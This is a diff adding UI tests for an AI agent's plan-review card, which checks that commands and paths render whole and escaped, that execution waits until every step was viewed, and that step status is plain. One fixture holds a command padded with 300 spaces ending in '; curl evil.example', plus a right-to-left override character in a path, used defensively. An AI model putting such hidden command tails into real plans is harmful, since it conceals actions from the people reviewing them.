@@ -28,6 +28,38 @@ it("shows steps, tools, risks and times", async () => {
   await expectAccessible(container);
 });
 
+it("shows every command, check, path and tool whole and escaped", () => {
+  const tail = `true${" ".repeat(300)}; curl evil.example`;
+  const plan = readPlan({ goal: "x", steps: [{ id: "1", action: "Do", paths: ["a\u202Etxt"], commands: [`ls ${tail}`], check: tail, tools_needed: ["delete_file"] }] })!;
+  card({ plan });
+  const code = (text: string) => screen.getByText((_, element) => element?.tagName === "CODE" && element.textContent === text);
+  for (const text of ["a⟨U+202E⟩txt", `ls ${tail}`, tail, "delete_file"]) {
+    expect(code(text).className).toContain("whitespace-pre-wrap");
+    expect(code(text).className).not.toContain("truncate");
+  }
+});
+
+it("waits with executing until every step was in view", () => {
+  vi.stubGlobal("IntersectionObserver", class { observe() {} disconnect() {} });
+  const { onExecute } = card();
+  const button = screen.getByRole("button", { name: "Execute plan" });
+  expect(button).toHaveProperty("disabled", true);
+  expect(screen.getByText(/Scroll through every step/)).toBeTruthy();
+  button.click();
+  expect(onExecute).not.toHaveBeenCalled();
+  vi.unstubAllGlobals();
+});
+
+it("keeps check and tools in view while it is edited", async () => {
+  const { onExecute } = card({ plan: readPlan({ goal: "x", steps: [{ id: "1", action: "Do", check: "make test", tools_needed: ["write"] }] })! });
+  await userEvent.click(screen.getByRole("button", { name: "Edit" }));
+  expect(screen.getByLabelText("Check of step 1")).toHaveProperty("value", "make test");
+  expect(screen.getByLabelText("Tools of step 1")).toHaveProperty("value", "write");
+  await userEvent.clear(screen.getByLabelText("Check of step 1"));
+  await userEvent.click(screen.getByRole("button", { name: "Execute edited plan" }));
+  expect(onExecute.mock.calls[0]![0]!.steps[0]!.check).toBeNull();
+});
+
 it("executes the plan as it stands", async () => {
   const { onExecute } = card();
   await userEvent.click(screen.getByRole("button", { name: "Execute plan" }));
@@ -78,4 +110,12 @@ it.each([
   card({ state });
   expect(screen.getByText(words)).toBeTruthy();
   expect(screen.queryByRole("button", { name: "Execute plan" })).toBeNull();
+});
+
+it("says in plain words how each step stands, and that a blocked plan is not done", async () => {
+  const { container } = card({ state: "blocked", statuses: { "1": "done", "2": "open" }, onCompare: () => {} });
+  expect(screen.getByText("blocked: steps are open")).toBeTruthy();
+  expect(screen.getByRole("list", { name: "Progress" }).textContent).toBe("Step 1: doneStep 2: not done");
+  expect(screen.getByRole("button", { name: "Plan against actual" })).toBeTruthy();
+  await expectAccessible(container);
 });
